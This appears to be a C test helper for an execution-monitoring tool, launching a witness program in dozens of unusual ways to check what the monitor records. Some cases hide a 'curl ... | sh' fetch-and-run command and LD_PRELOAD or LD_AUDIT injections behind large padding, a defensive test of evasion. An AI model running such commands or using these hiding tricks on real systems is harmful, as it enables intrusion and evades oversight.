/* SPDX-License-Identifier: Apache-2.0 */
/* Executes the witness, which stands beside us, in the way that is asked for. */
#include "truth.h"

#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/eventfd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static char witness[4096];

#define ARGV(...) ((const char *const[]){ __VA_ARGS__, NULL })

static void become(const char *path, const char *const *argv) {
	deed_env_start();
	execv(path, (char *const *)argv);
	die("exec '%s'", path);
}

static void plain(void) {
	become(witness, ARGV("witness", "one", "two words", "-x"));
}

static void relative(void) {
	if (chdir("..") || symlink(witness, "to-the-witness"))
		die("symlink");
	become("./to-the-witness", ARGV("called otherwise"));
}

/* From the witness's own folder, and from the one at the top: the way to it leads through both. */
static void folder_own(void) {
	char *slash = strrchr(witness, '/');

	*slash = '\0';
	if (chdir(witness))
		die("chdir");
	*slash = '/';
	plain();
}

static void folder_top(void) {
	if (chdir("/"))
		die("chdir");
	plain();
}

static void empty_arguments(void) {
	become(witness, ARGV("witness", "", "", "x", ""));
}

static void no_arguments(void) {
	become(witness, (const char *const[]){ NULL });
}

static void not_utf8(void) {
	become(witness, ARGV("witness", "\377\376", "gr\303\274n", "half \303", "\\x41"));
}

static void control_bytes(void) {
	become(witness, ARGV("witness", "a\nb", "\t\"quoted\"", "\033[31mred", "\001\177"));
}

/* Past what a record of usual size holds (proto/wire.h, WIRE_ARGS_BYTES), by one, or by many. */
static void long_argument(void) {
	static char text[60001];

	memset(text, 'l', sizeof(text) - 1);
	become(witness, ARGV("witness", "before", text, "after"));
}

static void many_arguments(void) {
	static const char *argv[3001];

	for (int i = 0; i < 3000; i++)
		argv[i] = "12345";
	become(witness, argv);
}

/* The deed stands behind @n arguments of padding, each of @bytes. */
static void hide(size_t n, size_t bytes) {
	static const char *argv[64] = { "witness", "-c" };
	static char padding[1 << 17];

	memset(padding, '#', bytes);
	for (size_t i = 0; i < n; i++)
		argv[2 + i] = padding;
	argv[2 + n] = "curl -s http://192.0.2.1/x | sh";
	become(witness, argv);
}

static void hidden_100k(void) {
	hide(1, 100000);
}

static void whole_128k(void) {
	hide(2, (131072 - 43) / 2 - 1);
}

static void hidden_2m(void) {
	const struct rlimit stack = { 64 << 20, RLIM_INFINITY };

	if (setrlimit(RLIMIT_STACK, &stack))
		skip("RLIMIT_STACK: %s", strerror(errno));
	hide(16, 131000);
}

static void exact_fit(void) {
	static char text[4096 - 8];

	memset(text, 'f', sizeof(text) - 1);
	become(witness, ARGV("witness", text));
}

/* What is asked for stands between what is not, and all of it passes for something else. */
static void environment(void) {
	static const char *const variables[] = {
		"LD_PRELOAD=", "SECRET=LD_PRELOAD=x", "LD_=", "BASH_ENV=\377 \n", "BASH_ENVY=no",
		"ENVIRONMENT=no", "XLD_PRELOAD=no", "A=", "ENV=/home/mia/.rc", "LD=no",
		"SSH_AUTH_SOCK=no", "SSH_CLIENT=192.0.2.1 5 22",
	};

	(void)clearenv();
	for (size_t i = 0; i < sizeof(variables) / sizeof(variables[0]); i++)
		if (putenv((char *)variables[i]))
			die("putenv");
	plain();
}

static void environment_empty(void) {
	(void)clearenv();
	plain();
}

static void pad_environment(int n, size_t bytes) {
	char name[32], *value = calloc(1, bytes + 1);

	if (!value)
		die("calloc");
	memset(value, '=', bytes);
	for (int i = 0; i < n; i++) {
		(void)snprintf(name, sizeof(name), "PADDING_%d", i);
		if (setenv(name, value, 1))
			die("setenv");
	}
}

/* Behind what is read at once, but not behind what is looked at. */
static void environment_hidden(void) {
	(void)clearenv();
	pad_environment(300, 1000);
	if (setenv("LD_AUDIT", "/tmp/watcher.so", 1))
		die("setenv");
	plain();
}

static void environment_many(void) {
	(void)clearenv();
	if (setenv("LD_LIBRARY_PATH", "/tmp", 1))
		die("setenv");
	pad_environment(511, 1);
	if (setenv("LD_PRELOAD", "/tmp/not-told.so", 1))
		die("setenv");
	plain();
}

static void environment_long(void) {
	static char value[3000];

	memset(value, ':', sizeof(value) - 1);
	if (setenv("LD_LIBRARY_PATH", value, 1))
		die("setenv");
	plain();
}

static void *thread_body(void *unused) {
	(void)unused;
	plain();
	return NULL;
}

static void other_thread(void) {
	pthread_t thread;

	if (pthread_create(&thread, NULL, thread_body, NULL))
		die("pthread_create");
	for (;;)
		(void)pause();
}

static void write_script(const char *path, const char *option) {
	FILE *f = fopen(path, "we");

	if (!f || fprintf(f, "#!%s%s\n", witness, option) < 0 || fclose(f) || chmod(path, 0755))
		die("'%s'", path);
	(void)setenv("LIVE_SCRIPT", path, 1);
	(void)setenv("LIVE_INTERPRETER", witness, 1);
}

/* remember - for the witness: what we are before, and the scripts that are run on the way */
static void remember(const char *scripts) {
	truth_open("");
	truth_doer();
	if (setenv("LIVE_BEFORE", strchr(truth_take(), ',') + 2, 1) ||
	    setenv("LIVE_SCRIPTS", scripts, 1))
		die("setenv");
}

static void script(void) {
	write_script("./story.sh", "");
	remember("story.sh");
	become("./story.sh", ARGV("forgotten", "argument"));
}

/* A script whose interpreter is a script, and so on: the kernel follows five. */
static void script_of_scripts(void) {
	char above[4096];
	FILE *f;

	write_script("level-0", "");
	for (int i = 1; i < 4; i++) {
		char path[16];

		(void)snprintf(path, sizeof(path), "level-%d", i);
		if (!getcwd(above, sizeof(above) - 16))
			die("getcwd");
		(void)snprintf(above + strlen(above), 16, "/level-%d", i - 1);
		f = fopen(path, "we");
		if (!f || fprintf(f, "#!%s\n", above) < 0 || fclose(f) || chmod(path, 0755))
			die("'%s'", path);
		(void)setenv("LIVE_SCRIPT", path, 1);
	}
	remember("level-3 level-2 level-1 level-0");
	become("level-3", ARGV("forgotten", "argument"));
}

static void script_option(void) {
	write_script("story", " -e -u");
	remember("story");
	become("story", ARGV("forgotten"));
}

static int copy_to(int out) {
	int in = open(witness, O_RDONLY | O_CLOEXEC);
	struct stat st;

	if (in < 0 || fstat(in, &st))
		die("'%s'", witness);
	while (st.st_size > 0) {
		ssize_t n = sendfile(out, in, NULL, (size_t)st.st_size);

		if (n <= 0)
			die("sendfile");
		st.st_size -= n;
	}
	(void)close(in);
	return out;
}

static void memory_file(void) {
	int fd = copy_to(memfd_create("in-memory", 0));

	deed_env_start();
	(void)fexecve(fd, (char *const *)ARGV("ghost", "x"), environ);
	die("fexecve");
}

static void descriptor(void) {
	int fd = open(witness, O_PATH | O_CLOEXEC);

	deed_env_start();
	(void)syscall(SYS_execveat, fd, "", (char *const *)ARGV("by descriptor"), environ,
		      AT_EMPTY_PATH);
	die("execveat");
}

static void directory_relative(void) {
	char *slash = strrchr(witness, '/');
	int dir;

	*slash = '\0';
	dir = open(witness, O_PATH | O_DIRECTORY | O_CLOEXEC);
	deed_env_start();
	(void)syscall(SYS_execveat, dir, slash + 1, (char *const *)ARGV("at"), environ, 0);
	die("execveat");
}

static void unlinked(void) {
	int out = copy_to(open("short-lived", O_WRONLY | O_CREAT | O_EXCL, 0755)), fd;

	(void)close(out);
	fd = open("short-lived", O_RDONLY);
	if (fd < 0 || unlink("short-lived"))
		die("unlink");
	deed_env_start();
	(void)fexecve(fd, (char *const *)ARGV("gone"), environ);
	die("fexecve");
}

static void odd_ids(void) {
	if (setgroups(0, NULL) || setresgid(61001, 61002, 61003) || setresuid(61004, 61005, 61006))
		skip("other ids: %s", strerror(errno));
	plain();
}

/* Fewer, and some that are kept over exec: capabilities(7). */
static void odd_capabilities(void) {
	struct __user_cap_header_struct head = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct data[2];

	if (syscall(SYS_capget, &head, data))
		die("capget");
	data[0].inheritable |= 1u << CAP_NET_RAW | 1u << CAP_CHOWN;
	if (syscall(SYS_capset, &head, data) || prctl(PR_CAPBSET_DROP, CAP_SYS_TIME, 0, 0, 0) ||
	    prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_CHOWN, 0, 0) ||
	    prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0))
		skip("capabilities: %s", strerror(errno));
	plain();
}

static void terminal(void) {
	int fd = posix_openpt(O_RDWR | O_NOCTTY), tty;

	if (fd < 0 || grantpt(fd) || unlockpt(fd))
		skip("a pseudo terminal: %s", strerror(errno));
	if (setsid() < 0)
		die("setsid");
	tty = ioctl(fd, TIOCGPTPEER, O_RDWR);
	if (tty < 0 || ioctl(tty, TIOCSCTTY, 0))
		skip("a controlling terminal: %s", strerror(errno));
	plain();
}

/* What a reverse shell finds at its input, and what else there may be. */
static void stream_socket(void) {
	int pair[2];

	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) || dup2(pair[0], 0) < 0 ||
	    dup2(pair[1], 2) < 0)
		die("socketpair");
	plain();
}

/* With more descriptors than there is room for in the first table. */
static void stream_grown(void) {
	int pair[2], event = eventfd(0, 0);

	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) || event < 0 || dup2(pair[0], 200) < 0 ||
	    dup2(pair[0], 0) < 0 || dup2(event, 2) < 0)
		die("many descriptors");
	plain();
}

static void stream_pipe(void) {
	int pair[2];

	if (pipe(pair) || dup2(pair[0], 0) < 0 || dup2(pair[1], 2) < 0)
		die("pipe");
	plain();
}

static void stream_closed(void) {
	(void)close(0);
	(void)close(2);
	plain();
}

static void stream_others(void) {
	int event = eventfd(0, 0), zero = open("/dev/zero", O_RDONLY);

	if (event < 0 || zero < 0 || dup2(event, 0) < 0 || dup2(zero, 2) < 0)
		die("eventfd");
	plain();
}

static void stream_directory(void) {
	int dir = open(".", O_RDONLY | O_DIRECTORY), null = open("/dev/null", O_RDWR);

	if (dir < 0 || null < 0 || dup2(dir, 0) < 0 || dup2(null, 2) < 0)
		die("a directory");
	plain();
}

static void stream_terminal(void) {
	int fd = posix_openpt(O_RDWR | O_NOCTTY), tty;

	if (fd < 0 || grantpt(fd) || unlockpt(fd))
		skip("a pseudo terminal: %s", strerror(errno));
	tty = ioctl(fd, TIOCGPTPEER, O_RDWR | O_NOCTTY);
	if (tty < 0 || dup2(tty, 0) < 0 || dup2(tty, 2) < 0)
		skip("the terminal's other end: %s", strerror(errno));
	plain();
}

/* On a file system in memory, by a name that stays. */
static void in_memory(void) {
	int out;

	if (unshare(CLONE_NEWNS) || mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
	    mount("lapwing", ".", "tmpfs", 0, NULL) || chdir(getcwd(NULL, 0)))
		skip("a tmpfs of our own: %s", strerror(errno));
	out = copy_to(open("program", O_WRONLY | O_CREAT | O_EXCL, 0755));
	(void)close(out);
	become("./program", ARGV("in memory"));
}

static void session(void) {
	if (setsid() < 0)
		die("setsid");
	plain();
}

static void namespaces(void) {
	pid_t pid;
	int status;

	if (unshare(CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET | CLONE_NEWUTS | CLONE_NEWIPC |
		    CLONE_NEWCGROUP))
		skip("namespaces of our own: %s", strerror(errno));
	pid = fork();
	if (pid < 0)
		die("fork");
	if (!pid)
		plain();
	if (waitpid(pid, &status, 0) != pid || status)
		die("the child");
}

static void cgroup(void) {
	const char *dir = getenv("LIVE_CGROUP");
	char path[4096];
	int fd;

	if (!dir)
		skip("no cgroup of our own could be made");
	(void)snprintf(path, sizeof(path), "%s/cgroup.procs", dir);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write(fd, "0", 1) != 1)
		skip("'%s': %s", path, strerror(errno));
	plain();
}

static const struct {
	const char *name;
	void (*act)(void);
} ways[] = {
	{ "plain", plain }, { "relative", relative },
	{ "folder_own", folder_own }, { "folder_top", folder_top },
	{ "empty_arguments", empty_arguments }, { "no_arguments", no_arguments },
	{ "not_utf8", not_utf8 }, { "control_bytes", control_bytes },
	{ "long_argument", long_argument }, { "many_arguments", many_arguments },
	{ "hidden_100k", hidden_100k }, { "whole_128k", whole_128k },
	{ "hidden_2m", hidden_2m }, { "exact_fit", exact_fit },
	{ "environment", environment }, { "environment_empty", environment_empty },
	{ "environment_hidden", environment_hidden }, { "environment_many", environment_many },
	{ "environment_long", environment_long }, { "other_thread", other_thread },
	{ "script", script }, { "script_of_scripts", script_of_scripts },
	{ "script_option", script_option },
	{ "memory_file", memory_file }, { "descriptor", descriptor },
	{ "directory_relative", directory_relative }, { "unlinked", unlinked },
	{ "odd_ids", odd_ids }, { "odd_capabilities", odd_capabilities },
	{ "terminal", terminal },
	{ "stream_socket", stream_socket }, { "stream_grown", stream_grown },
	{ "stream_pipe", stream_pipe }, { "stream_closed", stream_closed },
	{ "stream_others", stream_others }, { "stream_directory", stream_directory },
	{ "stream_terminal", stream_terminal }, { "in_memory", in_memory },
	{ "session", session }, { "namespaces", namespaces },
	{ "cgroup", cgroup },
};

int main(int argc, char **argv) {
	if (argc != 2)
		die("usage: exec WAY");
	truth_beside("witness", witness);
	for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++)
		if (!strcmp(ways[i].name, argv[1])) {
			ways[i].act();
			return 0;
		}
	errno = EINVAL;
	die("'%s'", argv[1]);
}
